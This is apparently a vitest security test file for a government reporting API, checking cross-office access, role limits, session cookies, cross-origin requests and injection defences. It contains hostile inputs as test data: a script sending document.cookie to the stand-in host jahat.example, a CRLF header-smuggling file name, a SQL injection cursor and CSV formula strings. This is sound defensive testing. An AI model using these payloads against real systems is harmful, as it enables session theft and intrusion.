import { v7 } from 'uuid'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { writeCursor } from '#http/cursor.ts'
import { type Filing, filing, soon } from '#testing/filing.ts'
import { type Caller, type SignedIn, type TestApi, testApi } from '#testing/testApi.ts'
import { pdf, upload } from '#testing/upload.ts'

const password = 'kuda laut bernyanyi'
let api: TestApi
let team: Filing
let admin: SignedIn
let report: string
let note: string
let attachment: string
beforeAll(async () => {
  api = await testApi()
  team = await filing(api)
  admin = await api.as({ role: 'admin' })
  report = await team.begin()
  await team.set(report, { '/recipients/gepeng/due': '10', '/recipients/gepeng/served': '3' })
  attachment = v7()
  await upload(team.operator, report, { fields: { id: attachment } })
  await team.through(report, ['operator', 'submit'], ['verifier', 'claim'])
  note = await team.note(report)
  await team.through(report, ['verifier', 'return', { dueAt: soon() }])
})
afterAll(() => api.close())

/** As somebody of another office, who knows the id. */
const isHidden = async (method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', path: string, body?: object) => {
  const answer = await team.other.call(method, path, body)
  expect([answer.statusCode, answer.json().code]).toEqual([404, 'not-found'])
}

describe('of another office, who knows an id learns and changes nothing', () => {
  it('its report', () => isHidden('GET', `/submissions/${report}`))
  it('its answers', () => isHidden('GET', `/submissions/${report}/answers`))
  it('what was changed in it', () => isHidden('GET', `/submissions/${report}/changes`))
  it('its history', () => isHidden('GET', `/submissions/${report}/events`))
  it('what it submitted', () => isHidden('GET', `/submissions/${report}/revisions/1`))
  it('its print', () => isHidden('GET', `/submissions/${report}/revisions/1/pdf`))
  it('its notes', () => isHidden('GET', `/submissions/${report}/notes`))
  it('its evidence', () => isHidden('GET', `/submissions/${report}/attachments/${attachment}/content`))
  it('its live updates', () => isHidden('GET', `/submissions/${report}/bell`))
  it('all it ever filed', () => isHidden('GET', `/offices/${team.office}/export`))
  it('an answer to its note', () =>
    isHidden('POST', `/submissions/${report}/notes/${note}/answers`, { text: 'Sudah.' }))
  it('removing its evidence', () => isHidden('DELETE', `/submissions/${report}/attachments/${attachment}`))
  it('submitting for it', () => isHidden('POST', `/submissions/${report}/submit`, {}))
  it('typing into it', () =>
    isHidden('PATCH', `/submissions/${report}/answers`, {
      changes: [{ changeId: v7(), op: 'set', pointer: '/recipients/gepeng/due', value: '1', base: 0 }],
    }))
  it('an upload for it', async () => {
    const answer = await upload(team.other, report)
    expect(answer.statusCode).toBe(404)
  })
  it('beginning a report for it', async () => {
    const body = { office: team.office, form: 'spm/triwulan', period: '2027-TW3' }
    expect((await team.other.call('POST', '/submissions', body)).statusCode).toBeGreaterThanOrEqual(403)
  })
  it('its evidence by way of a report of one’s own', async () => {
    const period = '2028-TW4'
    const body = { office: team.otherOffice, form: 'spm/triwulan', period }
    const own = (await team.other.call('POST', '/submissions', body)).json().id
    await isHidden('GET', `/submissions/${own}/attachments/${attachment}/content`)
  })
  it('its note by way of a report of one’s own', async () => {
    const body = { office: team.otherOffice, form: 'spm/triwulan', period: '2028-TW3' }
    const own = (await team.other.call('POST', '/submissions', body)).json().id
    await isHidden('POST', `/submissions/${own}/notes/${note}/answers`, { text: 'Sudah.' })
  })
  it('a list that names its office', async () => {
    const answer = await team.other.call('GET', `/submissions?office=${team.office}`)
    expect(JSON.stringify(answer.json().items ?? [])).not.toContain(report)
  })
})

describe('a post does no more than its role', () => {
  const refused = async (
    who: Caller,
    method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE',
    path: string,
    body?: object,
  ) => expect((await who.call(method, path, body)).json().code).toBe('no-right')
  it('an operator approves nothing', () => refused(team.operator, 'POST', `/submissions/${report}/approve`, {}))
  it('an operator sees no people', () => refused(team.operator, 'GET', `/people/${admin.personId}`))
  it('an operator makes no one an administrator', () =>
    refused(team.operator, 'POST', `/people/${team.operator.personId}/posts`, {
      role: 'admin',
      region: true,
      from: '2026-01-01',
    }))
  it('an operator issues no code for another', () => refused(team.operator, 'POST', `/people/${admin.personId}/codes`))
  it('an administrator reads no report', () => refused(admin, 'GET', `/submissions/${report}`))
  it('a key takes no code, key or post', async () => {
    const key = await api.withKey({ owner: admin.personId, scopes: ['submission.read'] })
    await refused(key, 'POST', `/people/${admin.personId}/codes`)
    await refused(key, 'GET', '/keys')
  })
  it('no user acts at a post of another', async () => {
    const answer = await team.operator.call('PUT', '/session/post', { post: admin.postId })
    expect(answer.statusCode).toBe(404)
  })
})

describe('a session', () => {
  const signIn = async (headers: Record<string, string> = {}) => {
    const { username } = await signable()
    return api.stranger.call('POST', '/session', { name: username, password }, headers)
  }
  const signable = async () => {
    const { personId } = await api.as({ role: 'leader' })
    const hash = await import('#http/auth/credentials.ts').then(({ createCredentials }) =>
      createCredentials(api.config).hashPassword(password),
    )
    const data = { accountId: personId, providerId: 'credential', userId: personId, password: hash }
    await api.db.prisma.account.create({ data })
    const username = `sesi.${personId.slice(-8)}`
    await api.db.prisma.person.update({ where: { id: personId }, data: { username } })
    return { personId, username }
  }
  const first = (answer: Awaited<ReturnType<typeof signIn>>) => String([answer.headers['set-cookie']].flat()[0])

  it('is in a cookie that no script reads, no sibling sets and no plain line carries', async () => {
    const cookie = first(await signIn())
    expect(cookie).toMatch(/^__Host-sepakat=/)
    for (const part of ['HttpOnly', 'Secure', 'SameSite=Strict', 'Path=/']) expect(cookie).toContain(part)
    expect(cookie).not.toMatch(/Domain/i)
  })

  it('that was planted before signing in belongs to no user', async () => {
    const planted = '__Host-sepakat=planted.c2lnbmF0dXJl'
    const answer = await signIn({ cookie: planted })
    expect(first(answer).split(';')[0]).not.toBe(planted)
    expect((await api.stranger.call('GET', '/session', undefined, { cookie: planted })).statusCode).toBe(401)
  })

  it('of somebody else that was there before is not gone on with', async () => {
    const other = await api.as({ role: 'admin' })
    const cookie = first(await signIn({ cookie: other.headers.cookie! })).split(';')[0]!
    expect(cookie).not.toBe(other.headers.cookie)
    const me = (await api.stranger.call('GET', '/session', undefined, { cookie })).json()
    expect(me.person.id).not.toBe(other.personId)
  })

  it('whose signature is another’s opens nothing', async () => {
    const [one, two] = [await api.as({ role: 'leader' }), await api.as({ role: 'leader' })]
    const parts = [one, two].map(who => decodeURIComponent(who.headers.cookie!.split('=')[1]!).split('.'))
    const cookie = `__Host-sepakat=${encodeURIComponent(`${parts[0]![0]}.${parts[1]![1]}`)}`
    expect((await api.stranger.call('GET', '/session', undefined, { cookie })).statusCode).toBe(401)
  })

  it('that ended is ended for a cookie that was copied, too', async () => {
    const who = await api.as({ role: 'leader' })
    await who.call('DELETE', '/session')
    expect((await who.call('GET', '/session')).statusCode).toBe(401)
  })

  it('of somebody else is not ended by its id', async () => {
    const [one, two] = [await api.as({ role: 'leader' }), await api.as({ role: 'leader' })]
    expect((await one.call('DELETE', `/sessions/${two.sessionId}`)).statusCode).toBe(404)
    expect((await two.call('GET', '/session')).statusCode).toBe(200)
  })

  it('in a key’s header, or a key in a cookie, opens nothing', async () => {
    const key = await api.withKey({ owner: admin.personId, scopes: ['submission.read'] })
    const cookie = `__Host-sepakat=${key.key}`
    expect((await api.stranger.call('GET', '/session', undefined, { cookie })).statusCode).toBe(401)
    const authorization = `Bearer ${admin.headers.cookie!.split('=')[1]}`
    expect((await api.stranger.call('GET', '/session', undefined, { authorization })).statusCode).toBe(401)
  })
})

describe('a page of another site, with the cookie', () => {
  const from = async (headers: Record<string, string>) => {
    const answer = await team.operator.call('POST', `/submissions/${report}/submit`, {}, headers)
    expect([answer.statusCode, answer.json().code]).toEqual([403, 'origin-refused'])
  }
  it('changes nothing', () => from({ origin: 'https://jahat.example' }))
  it('changes nothing from a sibling of the same site', () =>
    from({ origin: 'http://dinas.localhost', 'sec-fetch-site': 'same-site' }))
  it('changes nothing from a frame without an origin', () => from({ origin: 'null' }))
  it('changes nothing by a form of plain text', async () => {
    const headers = { origin: 'https://jahat.example', 'content-type': 'text/plain' }
    const answer = await team.operator.call('POST', '/session', Buffer.from('{"name":"a","password":"b"}'), headers)
    expect(answer.statusCode).toBe(403)
  })
  it('is allowed to read no answer', async () => {
    const answer = await team.operator.call('GET', '/submissions', undefined, { origin: 'https://jahat.example' })
    expect(answer.headers['access-control-allow-origin']).toBeUndefined()
    expect(answer.headers['cross-origin-resource-policy']).toBe('same-origin')
  })
  it('is asked for no permission before', async () => {
    const answer = await api.app.inject({
      method: 'OPTIONS',
      url: '/api/v1/submissions',
      headers: { origin: 'https://jahat.example', 'access-control-request-method': 'POST' },
    })
    expect(answer.headers['access-control-allow-origin']).toBeUndefined()
  })
})

describe('what somebody wrote', () => {
  const script = '<script>fetch("https://jahat.example/"+document.cookie)</script>'

  it('runs in no browser that is led to the answer', async () => {
    await team.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: script })
    const answer = await team.operator.call('GET', `/submissions/${report}/notes`, undefined, { accept: 'text/html' })
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8')
    expect(answer.headers['x-content-type-options']).toBe('nosniff')
    expect(answer.headers['content-security-policy']).toContain("default-src 'none'")
  })

  it('names no file that a browser opens by itself, and breaks no header', async () => {
    const id = v7()
    const name = 'bukti".html\r\nset-cookie: a=1;.pdf'
    const done = await upload(team.operator, report, { fields: { id }, file: { name, content: pdf() } })
    expect(done.statusCode).toBeLessThan(500)
    const answer = await team.operator.call('GET', `/submissions/${report}/attachments/${id}/content`)
    expect(answer.headers['set-cookie']).toBeUndefined()
    if (answer.statusCode === 200) expect(answer.headers['content-disposition']).toMatch(/^attachment; /)
  })

  it('is no formula in a CSV, behind whatever blank', async () => {
    const texts = ['=1+1', '\t=1+1', '\u00a0=1+1', ' @SUM(A1)', '\u200b+1', '\u3000-2+3', '\ufeff=1', '＝1']
    for (const text of texts)
      await team.operator.call('POST', `/submissions/${report}/notes/${note}/answers`, { text: `${text} x` })
    const csv = (await team.operator.call('GET', `/offices/${team.office}/export?format=csv`)).body
    const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => cell!)
    expect(cells.filter(cell => /^[\s\p{Z}\p{C}]*[=+@＝]/u.test(cell))).toEqual([])
    expect(cells.filter(cell => cell.startsWith("'")).length).toBeGreaterThanOrEqual(4)
  })
})

describe('a place in a list', () => {
  const asked = async (cursor: string) => {
    const answer = await admin.call('GET', `/people?cursor=${encodeURIComponent(cursor)}`)
    expect([answer.statusCode, answer.json().code]).toEqual([422, 'invalid'])
  }
  it('that is no place of ours is refused', () => asked('x'))
  it('with a statement in it is refused', () => asked(writeCursor("'; DROP TABLE person; --", 'x')))
  it('with NUL in it is refused', () => asked(writeCursor('a\u0000', v7())))
  it('of another list is refused', () => asked(writeCursor(v7())))
  it('with objects in it is refused', () =>
    asked(Buffer.from(JSON.stringify([{ $gt: '' }, v7()])).toString('base64url')))

  it('of another person shows only what one may see', async () => {
    const theirs = (await team.operator.call('GET', '/submissions?limit=1')).json()
    const cursor = theirs.next ?? writeCursor('2099-01-01', v7())
    const answer = await team.other.call('GET', `/submissions?cursor=${encodeURIComponent(cursor)}`)
    expect(answer.body).not.toContain(team.office)
  })

  it('is found by no word that is a pattern of the database', async () => {
    for (const q of ['%', '_', '\\', "'"]) {
      const answer = await admin.call('GET', `/people?q=${encodeURIComponent(`zzz${q}`)}`)
      expect([answer.statusCode, answer.json().items]).toEqual([200, []])
    }
  })
})
